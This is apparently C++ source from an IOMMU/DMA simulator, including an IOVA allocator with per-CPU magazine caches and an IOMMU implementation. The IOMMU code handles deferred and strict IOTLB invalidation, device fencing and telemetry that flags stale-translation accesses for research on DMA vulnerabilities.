  Status Free(Iova base, uint64_t pages);

  uint64_t allocated_pages() const { return allocated_pages_; }

 private:
  uint64_t window_start_;
  uint64_t window_end_;
  uint64_t next_top_;  // grows downward
  std::map<uint64_t, uint64_t> free_ranges_;  // base page -> page count (reuse cache)
  uint64_t allocated_pages_ = 0;
};

}  // namespace spv::iommu

#endif  // SPV_IOMMU_IOVA_ALLOCATOR_H_
