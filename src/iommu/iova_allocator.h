// Per-domain IOVA space allocator with a Linux-style rcache fast path.
//
// Two layers, mirroring the kernel's iova.c:
//
//  * Fast path: per-size-class magazine caches. Each simulated CPU keeps a
//    `loaded` and a `prev` magazine per size class; exhausted CPUs refill
//    from a shared depot of full magazines. Alloc/Free on a warm cache is a
//    vector push/pop — no tree walk, no search.
//  * Slow path: the original top-down range allocator over the 32-bit DMA
//    window, now with adjacent-free-range coalescing and range splitting so
//    churn no longer fragments the reuse cache unboundedly.
//
// The substrate of the paper's type (c) "page mapped by multiple IOVA"
// vulnerability is preserved by construction: every Alloc hands out a range
// no other live allocation holds, so two Map calls targeting the same PFN
// still receive two different IOVAs. A shadow table of live ranges enforces
// this (and catches double frees) in both paths.

#ifndef SPV_IOMMU_IOVA_ALLOCATOR_H_
#define SPV_IOMMU_IOVA_ALLOCATOR_H_

#include <algorithm>
#include <cstdint>
#include <map>
#include <mutex>
#include <unordered_map>
#include <vector>

#include "base/maybe_mutex.h"
#include "base/stat_counter.h"
#include "base/status.h"
#include "base/types.h"
#include "iommu/fast_path.h"
#include "telemetry/telemetry.h"

namespace spv::iommu {

class IovaAllocator {
 public:
  // Default window: [1 MiB, 4 GiB) like a 32-bit DMA mask with the low
  // megabyte avoided.
  static constexpr uint64_t kDefaultWindowStart = 1ull << 20;
  static constexpr uint64_t kDefaultWindowEnd = 1ull << 32;

  // Largest request (in pages) served by the magazine caches; bigger ranges
  // always take the slow path (IOVA_RANGE_CACHE_MAX_SIZE).
  static constexpr uint64_t kMaxCachedPages = 32;
  static constexpr size_t kNumSizeClasses = 6;  // 1, 2, 4, 8, 16, 32 pages

  struct Stats {
    StatCounter rcache_hits;       // allocs served from a magazine
    StatCounter rcache_misses;     // cacheable allocs that hit the tree
    StatCounter depot_refills;     // CPU pulled a full magazine from depot
    StatCounter depot_spills;      // CPU pushed a full magazine to depot
    StatCounter depot_overflows;   // magazine dumped back to the tree
    StatCounter coalesces;         // adjacent free-range merges
    StatCounter range_splits;      // partial reuse of a cached range
  };

  explicit IovaAllocator(uint64_t window_start = kDefaultWindowStart,
                         uint64_t window_end = kDefaultWindowEnd,
                         const FastPathConfig& fast_path = {});

  // Allocates `pages` contiguous IOVA pages; returns the base IOVA. Cacheable
  // sizes are rounded up to their size class (as Linux's alloc_iova_fast
  // does), so the same request size always recycles the same class.
  Result<Iova> Alloc(uint64_t pages, CpuId cpu = CpuId{0});

  // Releases a range previously returned by Alloc; `pages` must match the
  // Alloc request. Cacheable ranges go to `cpu`'s magazine, others back to
  // the coalescing free tree.
  Status Free(Iova base, uint64_t pages, CpuId cpu = CpuId{0});

  uint64_t allocated_pages() const { return allocated_pages_; }
  const Stats& stats() const { return stats_; }
  const FastPathConfig& fast_path() const { return fast_path_; }

  // Trust-policy gate (spv::policy): while bypassed, Alloc and Free skip the
  // magazine caches and go straight to the coalescing tree — the pre-PR-2
  // slow path, reserved for devices that have not earned kTrusted. Ranges
  // already parked in magazines stay parked (AuditCaches still accounts
  // them) and resume serving allocs when the bypass lifts. Size-class
  // rounding is unaffected, so toggling mid-lifetime never desyncs Free.
  void set_cache_bypass(bool bypass) { cache_bypass_ = bypass; }
  bool cache_bypass() const { return cache_bypass_; }

  // Engages the internal lock for ExecMode::kThreads. The lock covers the
  // shared slow path (free tree, live set, depot); the per-CPU loaded/prev
  // magazines stay owner-CPU-only and lock-free, exactly like Linux's
  // per-CPU iova rcaches. Must precede concurrent use; one-way.
  void EngageLock() { mu_.Engage(); }

  // Number of IOVA ranges currently parked in magazines + depot.
  uint64_t cached_ranges() const;

  // Magazine-ownership audit (Machine::CheckInvariants, cross-CPU): every
  // range parked in a magazine or the depot must be absent from the live set
  // and parked exactly once, and must lie inside the window. Call at
  // quiescence in kThreads mode (per-CPU magazines are read unlocked).
  Status AuditCaches() const;

  struct LiveRange {
    uint64_t base_page;
    uint64_t pages;  // size-class-rounded (effective) count
  };

  // Live ranges in ascending base order, sized as the rounded counts Alloc
  // actually reserved. Leak/containment audits (Machine::CheckInvariants)
  // match mapped IOVA pages against these.
  std::vector<LiveRange> live_ranges() const {
    std::lock_guard<MaybeMutex> guard(mu_);
    std::vector<LiveRange> out;
    out.reserve(live_.size());
    for (const auto& [base, pages] : live_) {
      out.push_back(LiveRange{base, pages});
    }
    std::sort(out.begin(), out.end(), [](const LiveRange& a, const LiveRange& b) {
      return a.base_page < b.base_page;
    });
    return out;
  }

  // Publishes rcache hit/miss/depot counters to `hub` (nullptr detaches).
  void set_telemetry(telemetry::Hub* hub);

 private:
  // A magazine: a bounded LIFO of range base page numbers, all of one size
  // class.
  using Magazine = std::vector<uint64_t>;
  struct CpuCache {
    Magazine loaded;
    Magazine prev;
  };
  struct SizeClassCache {
    std::vector<CpuCache> cpus;
    std::vector<Magazine> depot;  // full magazines
  };

  // Size class for a cacheable request, or -1 when it must bypass the cache.
  static int SizeClassFor(uint64_t pages);

  // Request size after size-class rounding (identity for uncacheable sizes).
  uint64_t EffectivePages(uint64_t pages) const;

  // Slow path over the free tree / virgin space. Returns a base *page*.
  // Caller holds mu_.
  Result<uint64_t> AllocRange(uint64_t pages);
  void FreeRange(uint64_t base_page, uint64_t pages);

  // Per-CPU fast path; takes mu_ internally only for the shared depot (pop
  // refill / push spill) and the overflow dump into the free tree.
  bool MagazinePop(int size_class, CpuId cpu, uint64_t* base_page);
  void MagazinePush(int size_class, CpuId cpu, uint64_t base_page);

  uint64_t window_start_;  // in pages
  uint64_t window_end_;    // in pages
  uint64_t next_top_;      // grows downward, in pages; guarded by mu_
  FastPathConfig fast_path_;
  bool cache_bypass_ = false;  // trust-policy slow-path gate

  // Shared state guarded by mu_ (disengaged — a branch — in sequential
  // mode): the free tree, the live set and each size class's depot. The
  // per-CPU loaded/prev magazines are owner-CPU-only by contract.
  mutable MaybeMutex mu_;
  std::map<uint64_t, uint64_t> free_ranges_;  // base page -> page count
  std::vector<SizeClassCache> rcaches_;       // indexed by size class

  // Live ranges (base page -> rounded page count): the invariant the type (c)
  // substrate rests on. Consulted O(1) on every alloc/free.
  std::unordered_map<uint64_t, uint64_t> live_;

  StatCounter allocated_pages_;
  Stats stats_;

  telemetry::Hub* hub_ = nullptr;
  telemetry::Counter* c_hits_ = nullptr;
  telemetry::Counter* c_misses_ = nullptr;
  telemetry::Counter* c_depot_refills_ = nullptr;
  telemetry::Counter* c_depot_spills_ = nullptr;
  telemetry::Counter* c_coalesces_ = nullptr;
};

}  // namespace spv::iommu

#endif  // SPV_IOMMU_IOVA_ALLOCATOR_H_
