// Fast-path knobs for the DMA map/unmap hot path.
//
// One struct gates every optimization added on top of the architecturally
// faithful slow path, so a single binary can run both configurations and an
// A/B comparison (bench_map_unmap) is honest: the toggles select data
// structures, never semantics. The fast path must be *observably equivalent*
// to the slow path — same IOVAs-are-distinct substrate for the type (c)
// vulnerability, same deferred-invalidation window, same fault behaviour.

#ifndef SPV_IOMMU_FAST_PATH_H_
#define SPV_IOMMU_FAST_PATH_H_

#include <cstddef>
#include <cstdint>

namespace spv::iommu {

struct FastPathConfig {
  // Linux-style per-CPU IOVA magazine caches (iova rcache) in front of the
  // range allocator. Off = every Alloc/Free walks the free-range tree.
  bool rcache_enabled = true;

  // Open-addressed (device, iova_page) index in DmaApi instead of std::map.
  bool hash_index_enabled = true;

  // Last-level walk cache in IoPageTable: repeated translations of hot 2 MiB
  // regions skip the multi-level radix descent.
  bool walk_cache_enabled = true;

  // Simulated CPUs sharing the rcache; each gets its own loaded/prev
  // magazine pair (struct iova_cpu_rcache).
  uint32_t num_cpus = 1;

  // IOVAs per magazine (IOVA_MAG_SIZE in Linux).
  size_t magazine_capacity = 127;

  // Full magazines the shared depot may hold per size class before overflow
  // dumps a magazine back to the range tree (MAX_GLOBAL_MAGS).
  size_t depot_capacity = 32;
};

}  // namespace spv::iommu

#endif  // SPV_IOMMU_FAST_PATH_H_
