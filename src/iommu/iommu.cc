#include "iommu/iommu.h"

#include <algorithm>
#include <cassert>
#include <mutex>
#include <shared_mutex>

#include "fault/fault.h"
#include "forensics/flight_recorder.h"

namespace spv::iommu {

std::string_view FlushReasonName(FlushReason reason) {
  switch (reason) {
    case FlushReason::kManual:
      return "manual";
    case FlushReason::kCapacity:
      return "capacity";
    case FlushReason::kDeadline:
      return "deadline";
  }
  return "?";
}

Iommu::Iommu(mem::PhysicalMemory& pm, SimClock& clock, Config config)
    : pm_(pm), clock_(clock), config_(config), iotlb_(config.iotlb_capacity) {
  // Sequential mode: one shard == the legacy global flush queue.
  flush_shards_.push_back(std::make_unique<FlushShard>());
}

void Iommu::EngageThreadSafety(uint32_t num_cpus) {
  assert(!threaded_);
  threaded_ = true;
  const uint32_t shards = std::max<uint32_t>(num_cpus, 1);
  assert(flush_shards_.size() == 1 && flush_shards_[0]->queue.empty() &&
         "reshard before any deferred traffic");
  flush_shards_.clear();
  for (uint32_t i = 0; i < shards; ++i) {
    flush_shards_.push_back(std::make_unique<FlushShard>());
    flush_shards_.back()->mu.Engage();
  }
  state_mu_.Engage();
  faults_mu_.Engage();
  iotlb_.EngageLock();
  for (auto& [id, domain] : device_domain_) {
    domain->table.EngageLock();
    domain->iova_alloc.EngageLock();
  }
}

void Iommu::set_telemetry(telemetry::Hub* hub) {
  hub_ = hub;
  iotlb_.set_telemetry(hub);
  for (auto& [id, domain] : device_domain_) {
    domain->iova_alloc.set_telemetry(hub);
    domain->table.set_telemetry(hub);
  }
}

void Iommu::AttachDevice(DeviceId device) {
  std::lock_guard<MaybeSharedMutex> lock(state_mu_);
  if (device_domain_.contains(device.value)) {
    return;
  }
  // A fresh attach (or a supervised re-attach after detach) restores the
  // device to good standing: the revocation memory is cleared.
  fenced_.erase(device.value);
  revoked_.erase(device.value);
  auto domain = std::make_shared<Domain>(config_.fast_path);
  domain->id = next_domain_id_++;
  domain->iova_alloc.set_telemetry(hub_);
  domain->table.set_telemetry(hub_);
  if (threaded_) {
    domain->table.EngageLock();
    domain->iova_alloc.EngageLock();
  }
  device_domain_[device.value] = std::move(domain);
}

Status Iommu::AttachDeviceToDomainOf(DeviceId device, DeviceId domain_owner) {
  std::lock_guard<MaybeSharedMutex> lock(state_mu_);
  auto owner_it = device_domain_.find(domain_owner.value);
  if (owner_it == device_domain_.end()) {
    return NotFound("domain owner not attached");
  }
  if (device_domain_.contains(device.value)) {
    return AlreadyExists("device already attached");
  }
  device_domain_[device.value] = owner_it->second;
  return OkStatus();
}

bool Iommu::IsAttached(DeviceId device) const {
  std::shared_lock<MaybeSharedMutex> lock(state_mu_);
  return device_domain_.contains(device.value);
}

bool Iommu::IsFenced(DeviceId device) const {
  std::shared_lock<MaybeSharedMutex> lock(state_mu_);
  return fenced_.contains(device.value);
}

bool Iommu::IsRevoked(DeviceId device) const {
  std::shared_lock<MaybeSharedMutex> lock(state_mu_);
  return revoked_.contains(device.value);
}

bool Iommu::SameDomain(DeviceId a, DeviceId b) const {
  std::shared_lock<MaybeSharedMutex> lock(state_mu_);
  auto ia = device_domain_.find(a.value);
  auto ib = device_domain_.find(b.value);
  return ia != device_domain_.end() && ib != device_domain_.end() &&
         ia->second == ib->second;
}

Iommu::DeviceRef Iommu::Resolve(DeviceId device) const {
  std::shared_lock<MaybeSharedMutex> lock(state_mu_);
  DeviceRef ref;
  auto it = device_domain_.find(device.value);
  if (it != device_domain_.end()) {
    ref.domain = it->second;
  }
  ref.fenced = fenced_.contains(device.value);
  ref.revoked = revoked_.contains(device.value);
  return ref;
}

Status Iommu::FenceDevice(DeviceId device) {
  DeviceRef ref = Resolve(device);
  if (ref.domain == nullptr) {
    return NotFound("device not attached to IOMMU");
  }
  if (ref.fenced) {
    return OkStatus();  // idempotent: already quarantined
  }
  trace::ScopedSpan span(tracer_, "iommu.fence_device");
  // Order matters: first retire this device's deferred unmaps in *every*
  // CPU's shard (their parked IOVAs come home, their stale IOTLB pages die),
  // then drop every remaining cached translation for the domain so no warm
  // entry survives the fence.
  DrainDeviceInvalidations(device);
  iotlb_.InvalidateDevice(DeviceId{ref.domain->id});
  ref.domain->table.InvalidateWalkCache();
  clock_.Advance(kIotlbInvalidationCycles);
  stats_.invalidation_cycles += kIotlbInvalidationCycles;
  {
    std::lock_guard<MaybeSharedMutex> lock(state_mu_);
    fenced_.insert(device.value);
    revoked_.insert(device.value);
  }
  ++stats_.device_fences;
  if (hub_ != nullptr && hub_->enabled()) {
    hub_->counter("iommu.device_fences").Add();
  }
  return OkStatus();
}

Status Iommu::UnfenceDevice(DeviceId device) {
  std::lock_guard<MaybeSharedMutex> lock(state_mu_);
  if (!device_domain_.contains(device.value)) {
    return NotFound("device not attached to IOMMU");
  }
  fenced_.erase(device.value);
  revoked_.erase(device.value);
  return OkStatus();
}

uint64_t Iommu::DrainDeviceInvalidations(DeviceId device) {
  DeviceRef ref = Resolve(device);
  Domain* state = ref.domain.get();
  uint64_t drained = 0;
  for (auto& shard_ptr : flush_shards_) {
    FlushShard& shard = *shard_ptr;
    std::deque<PendingInvalidation> mine;
    {
      std::lock_guard<MaybeMutex> lock(shard.mu);
      std::deque<PendingInvalidation> keep;
      for (PendingInvalidation& pending : shard.queue) {
        (pending.device.value == device.value ? mine : keep).push_back(pending);
      }
      shard.queue.swap(keep);
    }
    for (const PendingInvalidation& pending : mine) {
      ++drained;
      stats_.drained_device_entries += 1;
      if (state != nullptr) {
        // Kill the stale IOTLB pages *before* the IOVAs become reusable —
        // freeing first would let a recycled IOVA translate through the
        // still-warm stale entry (the exact window quarantine must close).
        for (uint64_t i = 0; i < pending.pages; ++i) {
          iotlb_.InvalidatePage(DeviceId{state->id}, pending.base + (i << kPageShift));
          clock_.Advance(kIotlbInvalidationCycles);
          stats_.invalidation_cycles += kIotlbInvalidationCycles;
          ++stats_.targeted_invalidations;
        }
        (void)state->iova_alloc.Free(pending.base, pending.pages, pending.cpu);
      }
    }
  }
  if (drained != 0 && hub_ != nullptr && hub_->enabled()) {
    hub_->counter("iommu.drained_device_entries").Add(drained);
  }
  return drained;
}

Status Iommu::DetachDevice(DeviceId device) {
  {
    std::shared_lock<MaybeSharedMutex> lock(state_mu_);
    if (!device_domain_.contains(device.value)) {
      // Idempotent for devices we detached earlier; never-attached is an error.
      return revoked_.contains(device.value)
                 ? OkStatus()
                 : NotFound("device not attached to IOMMU");
    }
  }
  trace::ScopedSpan span(tracer_, "iommu.detach_device");
  SPV_RETURN_IF_ERROR(FenceDevice(device));
  {
    // Drop the device's domain membership. A shared domain survives through
    // the other members' shared_ptr refs — their PTEs and IOVA ranges are
    // theirs, not ours to tear down.
    std::lock_guard<MaybeSharedMutex> lock(state_mu_);
    device_domain_.erase(device.value);
    fenced_.erase(device.value);   // no longer attached, nothing left to fence
    revoked_.insert(device.value);  // but the revocation memory persists
  }
  ++stats_.device_detaches;
  if (hub_ != nullptr && hub_->enabled()) {
    hub_->counter("iommu.device_detaches").Add();
  }
  return OkStatus();
}

void Iommu::NoteFencedAccess(DeviceId device, Iova iova, std::string_view what) {
  ++stats_.fenced_accesses;
  if (hub_ != nullptr && hub_->active()) {
    telemetry::Event event;
    event.kind = telemetry::EventKind::kDeviceFencedAccess;
    event.severity = telemetry::Severity::kTrace;
    event.device = device.value;
    event.addr2 = iova.value;
    event.origin = this;
    event.site = std::string(what);
    hub_->Publish(std::move(event));
    if (hub_->enabled()) {
      hub_->counter("iommu.fenced_accesses").Add();
    }
  }
}

Result<Iova> Iommu::MapPage(DeviceId device, Pfn pfn, AccessRights rights) {
  const Pfn pfns[] = {pfn};
  return MapRange(device, pfns, rights);
}

Result<Iova> Iommu::MapRange(DeviceId device, std::span<const Pfn> pfns, AccessRights rights) {
  trace::ScopedSpan span(tracer_, "iommu.map_range");
  ProcessDeferredTimer();
  DeviceRef ref = Resolve(device);
  Domain* state = ref.domain.get();
  if (state == nullptr) {
    return ref.revoked ? Revoked("device detached: new mappings revoked")
                       : InvalidArgument("device not attached to IOMMU");
  }
  if (ref.fenced) {
    return Revoked("device quarantined: new mappings revoked");
  }
  if (pfns.empty()) {
    return InvalidArgument("empty pfn list");
  }
  if (!config_.enabled) {
    // Bypass: dma_addr == physical address. Scatter lists must be contiguous
    // (a real no-IOMMU dma_map_sg would yield one segment per entry; our
    // callers map entries separately anyway).
    for (size_t i = 1; i < pfns.size(); ++i) {
      if (pfns[i].value != pfns[0].value + i) {
        return InvalidArgument("bypass mode requires contiguous pfns");
      }
    }
    stats_.maps += pfns.size();
    return Iova{pfns[0].PhysBase()};
  }
  if (fault_ != nullptr && fault_->armed() &&
      fault_->ShouldInject(fault::FaultSite::kIovaAlloc)) {
    return ResourceExhausted("injected: IOVA space exhausted");
  }
  Result<Iova> base = state->iova_alloc.Alloc(pfns.size(), CurrentCpu());
  if (!base.ok()) {
    return base.status();
  }
  for (size_t i = 0; i < pfns.size(); ++i) {
    Status s = (fault_ != nullptr && fault_->armed() &&
                fault_->ShouldInject(fault::FaultSite::kIoPageTableMap))
                   ? ResourceExhausted("injected: I/O page table allocation failure")
                   : state->table.Map(*base + (i << kPageShift), pfns[i], rights);
    if (!s.ok()) {
      // Roll back partial mappings.
      for (size_t j = 0; j < i; ++j) {
        (void)state->table.Unmap(*base + (j << kPageShift));
      }
      (void)state->iova_alloc.Free(*base, pfns.size(), CurrentCpu());
      return s;
    }
  }
  clock_.Advance(kMapPteCycles * pfns.size());
  stats_.maps += pfns.size();
  if (hub_ != nullptr && hub_->enabled()) {
    hub_->counter("iommu.maps").Add(pfns.size());
  }
  return *base;
}

Status Iommu::UnmapPage(DeviceId device, Iova iova) { return UnmapRange(device, iova, 1); }

Status Iommu::UnmapRange(DeviceId device, Iova base, uint64_t pages) {
  trace::ScopedSpan span(tracer_, "iommu.unmap_range");
  ProcessDeferredTimer();
  DeviceRef ref = Resolve(device);
  Domain* state = ref.domain.get();
  if (state == nullptr) {
    // OS-side unmaps on a *fenced* device stay allowed (teardown must make
    // progress), but once detached the translations are gone with the domain.
    return ref.revoked ? Revoked("device detached: mappings already revoked")
                       : InvalidArgument("device not attached to IOMMU");
  }
  if (!config_.enabled) {
    stats_.unmaps += pages;  // nothing to revoke: the device never lost access
    return OkStatus();
  }
  for (uint64_t i = 0; i < pages; ++i) {
    Result<PteEntry> old = state->table.Unmap(base + (i << kPageShift));
    if (!old.ok()) {
      return old.status();
    }
  }
  stats_.unmaps += pages;
  if (hub_ != nullptr && hub_->enabled()) {
    hub_->counter("iommu.unmaps").Add(pages);
  }

  if (config_.mode == InvalidationMode::kStrict) {
    // Synchronous per-page invalidation, then the IOVA is immediately
    // reusable. This is the expensive-but-safe path.
    for (uint64_t i = 0; i < pages; ++i) {
      iotlb_.InvalidatePage(DeviceId{state->id}, base + (i << kPageShift));
      uint64_t cycles = kIotlbInvalidationCycles;
      if (fault_ != nullptr && fault_->armed() &&
          fault_->ShouldInject(fault::FaultSite::kIotlbInvalidation)) {
        // Invalidation stall: the wait-descriptor takes far longer than the
        // nominal cost (a latency spike, not a failure).
        cycles += fault_->magnitude(fault::FaultSite::kIotlbInvalidation,
                                    10 * kIotlbInvalidationCycles);
      }
      clock_.Advance(cycles);
      stats_.invalidation_cycles += cycles;
      ++stats_.targeted_invalidations;
      if (hub_ != nullptr && hub_->active()) {
        telemetry::Event event;
        event.kind = telemetry::EventKind::kIotlbInvalidate;
        event.severity = telemetry::Severity::kTrace;
        event.device = device.value;
        event.addr2 = (base + (i << kPageShift)).value;
        event.len = kPageSize;
        event.aux = kIotlbInvalidationCycles;
        event.origin = this;
        event.site = "unmap_strict";
        hub_->Publish(std::move(event));
        if (hub_->enabled()) {
          hub_->counter("iommu.targeted_invalidations").Add();
          hub_->counter("iommu.invalidation_cycles").Add(kIotlbInvalidationCycles);
        }
      }
    }
    if (recorder_ != nullptr) {
      // Strict flush edge: the translation died with the unmap, so the
      // mapping's stale window is the invalidation latency itself.
      recorder_->RecordFlush(device, base, pages);
    }
    return state->iova_alloc.Free(base, pages, CurrentCpu());
  }

  // Deferred: PTE is gone but the IOTLB may still translate. The IOVA is
  // parked until the flush so it cannot be handed out while stale.
  EnqueueInvalidation(device, base, pages);
  return OkStatus();
}

void Iommu::EnqueueInvalidation(DeviceId device, Iova base, uint64_t pages) {
  const size_t shard_index = ShardIndex();
  FlushShard& shard = *flush_shards_[shard_index];
  bool capacity_hit = false;
  {
    std::lock_guard<MaybeMutex> lock(shard.mu);
    if (shard.queue.empty()) {
      shard.deadline = clock_.now() + config_.flush_interval_cycles;
    }
    shard.queue.push_back(PendingInvalidation{device, base, pages, CurrentCpu()});
    capacity_hit = shard.queue.size() >= config_.flush_queue_capacity;
  }
  if (capacity_hit) {
    DrainShard(shard_index, FlushReason::kCapacity);
  }
}

void Iommu::FlushNow(FlushReason reason) {
  for (size_t i = 0; i < flush_shards_.size(); ++i) {
    DrainShard(i, reason);
  }
}

Status Iommu::SetDeviceFastPath(DeviceId device, bool enabled) {
  DeviceRef ref = Resolve(device);
  if (ref.domain == nullptr) {
    return NotFound("fast-path gate on unattached device");
  }
  ref.domain->iova_alloc.set_cache_bypass(!enabled);
  return OkStatus();
}

bool Iommu::device_fast_path(DeviceId device) const {
  DeviceRef ref = Resolve(device);
  return ref.domain == nullptr || !ref.domain->iova_alloc.cache_bypass();
}

void Iommu::DrainShard(size_t shard_index, FlushReason reason) {
  FlushShard& shard = *flush_shards_[shard_index];
  std::deque<PendingInvalidation> batch;
  {
    std::lock_guard<MaybeMutex> lock(shard.mu);
    if (shard.queue.empty()) {
      return;
    }
    batch.swap(shard.queue);
    shard.deadline = 0;
  }
  trace::ScopedSpan span(tracer_, "iommu.flush_drain");
  // One global invalidation amortizes the whole batch — this is why deferred
  // mode wins on throughput (§5.2.1).
  const uint64_t amortized = batch.size();
  iotlb_.InvalidateAll();
  // A global IOTLB invalidation also drops the intermediate-structure
  // caches, so the page-table walk caches start cold. Collect the domains
  // under a brief shared lock, invalidate outside it.
  {
    std::vector<std::shared_ptr<Domain>> domains;
    {
      std::shared_lock<MaybeSharedMutex> lock(state_mu_);
      domains.reserve(device_domain_.size());
      for (auto& [id, domain] : device_domain_) {
        domains.push_back(domain);
      }
    }
    for (auto& domain : domains) {
      domain->table.InvalidateWalkCache();
    }
  }
  uint64_t flush_cycles = kIotlbInvalidationCycles;
  if (fault_ != nullptr && fault_->armed() &&
      fault_->ShouldInject(fault::FaultSite::kIotlbInvalidation)) {
    flush_cycles += fault_->magnitude(fault::FaultSite::kIotlbInvalidation,
                                      10 * kIotlbInvalidationCycles);
  }
  clock_.Advance(flush_cycles);
  stats_.invalidation_cycles += flush_cycles;
  ++stats_.flushes;
  switch (reason) {
    case FlushReason::kManual:
      ++stats_.flush_manual_drains;
      break;
    case FlushReason::kCapacity:
      ++stats_.flush_capacity_drains;
      break;
    case FlushReason::kDeadline:
      ++stats_.flush_deadline_drains;
      break;
  }
  if (hub_ != nullptr && hub_->active()) {
    telemetry::Event event;
    event.kind = telemetry::EventKind::kIommuFlush;
    event.severity = telemetry::Severity::kInfo;
    event.aux = amortized;  // queued unmaps retired by this one invalidation
    event.origin = this;
    event.site = std::string("flush_now:") + std::string(FlushReasonName(reason));
    hub_->Publish(std::move(event));
    if (hub_->enabled()) {
      hub_->counter("iommu.flushes").Add();
      hub_->counter(std::string("iommu.flush_drain.") +
                    std::string(FlushReasonName(reason)))
          .Add();
      hub_->counter("iommu.invalidation_cycles").Add(kIotlbInvalidationCycles);
      hub_->histogram("iommu.flush_batch").Record(amortized);
    }
  }
  for (const PendingInvalidation& pending : batch) {
    if (recorder_ != nullptr) {
      // Deferred flush edge: this drain is what finally closes the stale
      // window the queued unmap opened.
      recorder_->RecordFlush(pending.device, pending.base, pending.pages);
    }
    DeviceRef ref = Resolve(pending.device);
    if (ref.domain != nullptr) {
      (void)ref.domain->iova_alloc.Free(pending.base, pending.pages, pending.cpu);
    }
  }
}

void Iommu::ProcessDeferredTimer() {
  const size_t shard_index = ShardIndex();
  FlushShard& shard = *flush_shards_[shard_index];
  bool expired = false;
  {
    std::lock_guard<MaybeMutex> lock(shard.mu);
    expired = !shard.queue.empty() && clock_.now() >= shard.deadline;
  }
  if (expired) {
    DrainShard(shard_index, FlushReason::kDeadline);
  }
}

Status Iommu::DeviceRead(DeviceId device, Iova iova, std::span<uint8_t> out) {
  return Access(device, iova, AccessOp::kRead, out, {});
}

Status Iommu::DeviceWrite(DeviceId device, Iova iova, std::span<const uint8_t> data) {
  return Access(device, iova, AccessOp::kWrite, {}, data);
}

Status Iommu::Access(DeviceId device, Iova iova, AccessOp op, std::span<uint8_t> read_out,
                     std::span<const uint8_t> write_data) {
  // The "use" step of map -> use -> unmap: translation cycles (IOTLB hit or
  // page walk) accrue to this span in cycle-attribution profiles.
  trace::ScopedSpan span(tracer_, "iommu.device_access");
  ProcessDeferredTimer();
  DeviceRef ref = Resolve(device);
  Domain* state = ref.domain.get();
  if (state == nullptr) {
    if (ref.revoked) {
      NoteFencedAccess(device, iova, "DMA after detach");
      return Revoked("device detached: DMA revoked");
    }
    return InvalidArgument("device not attached to IOMMU");
  }
  if (ref.fenced) {
    NoteFencedAccess(device, iova, "DMA while fenced");
    return Revoked("device quarantined: DMA fenced");
  }
  ++stats_.device_accesses;
  if (hub_ != nullptr && hub_->enabled()) {
    hub_->counter("iommu.device_accesses").Add();
  }

  if (!config_.enabled) {
    // No translation, no checks: the device masters the bus directly.
    const PhysAddr phys{iova.value};
    return op == AccessOp::kRead ? pm_.Read(phys, read_out) : pm_.Write(phys, write_data);
  }

  const uint64_t total = op == AccessOp::kRead ? read_out.size() : write_data.size();
  uint64_t done = 0;
  while (done < total) {
    const Iova cursor = iova + done;
    const uint64_t in_page = std::min(total - done, kPageSize - cursor.page_offset());
    Result<PteEntry> entry = TranslateForDevice(device, *state, cursor.PageBase(), op);
    if (!entry.ok()) {
      return entry.status();
    }
    const PhysAddr phys = PhysAddr::FromPfn(entry->pfn, cursor.page_offset());
    if (recorder_ != nullptr) {
      recorder_->RecordAccess(device, cursor, phys.value, in_page,
                              op == AccessOp::kWrite);
    }
    if (op == AccessOp::kRead) {
      SPV_RETURN_IF_ERROR(pm_.Read(phys, read_out.subspan(done, in_page)));
    } else {
      SPV_RETURN_IF_ERROR(pm_.Write(phys, write_data.subspan(done, in_page)));
    }
    done += in_page;
  }
  return OkStatus();
}

Result<PteEntry> Iommu::TranslateForDevice(DeviceId device, Domain& state, Iova page_iova,
                                           AccessOp op) {
  // IOTLB first. A hit is authoritative even if the PTE has since been
  // cleared — the hardware does not re-walk on hits. This single line is the
  // deferred-invalidation vulnerability.
  std::optional<PteEntry> cached = iotlb_.Lookup(DeviceId{state.id}, page_iova);
  if (cached.has_value()) {
    clock_.Advance(kIotlbHitCycles);
    if (!Permits(cached->rights, op)) {
      Fault(device, page_iova, op, "access rights violation (cached translation)");
      return PermissionDenied("IOMMU fault: rights violation");
    }
    if (!state.table.Lookup(page_iova).has_value()) {
      ++stats_.stale_iotlb_accesses;  // translated with no live PTE
      if (recorder_ != nullptr) {
        recorder_->RecordStaleHit(device, page_iova,
                                  PhysAddr::FromPfn(cached->pfn, 0).value);
      }
      if (hub_ != nullptr && hub_->active()) {
        telemetry::Event event;
        event.kind = telemetry::EventKind::kStaleIotlbHit;
        event.severity = telemetry::Severity::kCritical;
        event.device = device.value;
        event.addr2 = page_iova.value;
        event.len = kPageSize;
        event.flag = op == AccessOp::kWrite;
        event.origin = this;
        event.site = "stale translation served from IOTLB";
        hub_->Publish(std::move(event));
        if (hub_->enabled()) {
          hub_->counter("iommu.stale_iotlb_accesses").Add();
        }
      }
    }
    return *cached;
  }

  int walk_levels = 0;
  std::optional<PteEntry> pte = state.table.Lookup(page_iova, &walk_levels);
  clock_.Advance(kPageWalkCyclesPerLevel * static_cast<uint64_t>(std::max(walk_levels, 1)));
  if (!pte.has_value()) {
    Fault(device, page_iova, op, "translation not present");
    return PermissionDenied("IOMMU fault: not present");
  }
  iotlb_.Insert(DeviceId{state.id}, page_iova, *pte);
  if (!Permits(pte->rights, op)) {
    Fault(device, page_iova, op, "access rights violation");
    return PermissionDenied("IOMMU fault: rights violation");
  }
  return *pte;
}

void Iommu::Fault(DeviceId device, Iova iova, AccessOp op, std::string reason) {
  if (recorder_ != nullptr) {
    recorder_->RecordFault(device, iova, kPageSize, op == AccessOp::kWrite);
  }
  if (hub_ != nullptr && hub_->active()) {
    telemetry::Event event;
    event.kind = telemetry::EventKind::kIommuFault;
    event.severity = telemetry::Severity::kWarn;
    event.device = device.value;
    event.addr2 = iova.value;
    event.flag = op == AccessOp::kWrite;
    event.origin = this;
    event.site = reason;
    hub_->Publish(std::move(event));
    if (hub_->enabled()) {
      hub_->counter("iommu.faults").Add();
    }
  }
  // Bound the fault log; a scanning attacker can generate millions.
  constexpr size_t kMaxFaults = 4096;
  std::lock_guard<MaybeMutex> lock(faults_mu_);
  if (faults_.size() < kMaxFaults) {
    faults_.push_back(IommuFault{device, iova, op, clock_.now(), std::move(reason)});
  }
}

std::vector<Iova> Iommu::IovasForPfn(DeviceId device, Pfn pfn) const {
  DeviceRef ref = Resolve(device);
  if (ref.domain == nullptr) {
    return {};
  }
  return ref.domain->table.FindIovasForPfn(pfn);
}

std::optional<PteEntry> Iommu::Peek(DeviceId device, Iova iova) const {
  DeviceRef ref = Resolve(device);
  if (ref.domain == nullptr) {
